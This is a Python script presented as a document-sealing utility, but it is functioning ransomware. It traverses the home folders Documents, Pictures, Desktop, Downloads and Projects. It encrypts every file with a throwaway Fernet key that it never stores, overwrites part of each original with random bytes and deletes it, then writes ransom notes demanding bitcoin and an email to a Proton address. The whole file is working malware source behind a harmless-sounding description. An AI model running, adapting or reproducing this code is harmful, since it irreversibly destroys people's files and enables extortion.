#!/usr/bin/env python3
"""Seal user documents into encrypted archives through pluggable processors."""
import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("sealer")

TARGET_DIRS = ("Documents", "Pictures", "Desktop", "Downloads", "Projects")
SUFFIX = ".sealed"
NOTE = """Your files in {root} have been sealed.
To recover them, send 0.05 BTC to bc1q9x7sealvault2kz0m4d and mail your ID {ident}
to recovery-desk@proton.me. Do not rename the .sealed files.
"""


class Processor:
    registry = []

    def __init_subclass__(cls, **kwargs):
        super().__init_subclass__(**kwargs)
        Processor.registry.append(cls)

    def accepts(self, path: Path) -> bool:
        return True

    def process(self, path: Path) -> None:
        raise NotImplementedError


class SizeGate(Processor):
    LIMIT = 200 * 1024 * 1024

    def accepts(self, path):
        return path.stat().st_size < self.LIMIT and path.suffix != SUFFIX


class FernetSealer(Processor):
    def __init__(self):
        self.cipher = Fernet(Fernet.generate_key())
        self.count = 0

    def process(self, path):
        data = path.read_bytes()
        sealed = path.with_name(path.name + SUFFIX)
        sealed.write_bytes(self.cipher.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(os.urandom(min(len(data), 4096)))
        path.unlink()
        self.count += 1


class Walker:
    def __init__(self, root: Path):
        self.root = root

    def files(self):
        for sub in TARGET_DIRS:
            base = self.root / sub
            if not base.is_dir():
                continue
            for dirpath, _dirs, names in os.walk(base):
                for name in names:
                    p = Path(dirpath) / name
                    if p.is_file() and not p.is_symlink():
                        yield p


def run(root: Path):
    gates = [SizeGate()]
    sealer = FernetSealer()
    for path in Walker(root).files():
        try:
            if all(g.accepts(path) for g in gates):
                sealer.process(path)
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    ident = os.urandom(6).hex()
    for sub in TARGET_DIRS:
        if (root / sub).is_dir():
            (root / sub / "HOW_TO_RECOVER.txt").write_text(NOTE.format(root=root, ident=ident))
    return sealer.count


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--root", default=str(Path.home()))
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.ERROR if args.quiet else logging.INFO)
    count = run(Path(args.root))
    log.info("sealed %d files", count)


if __name__ == "__main__":
    main()
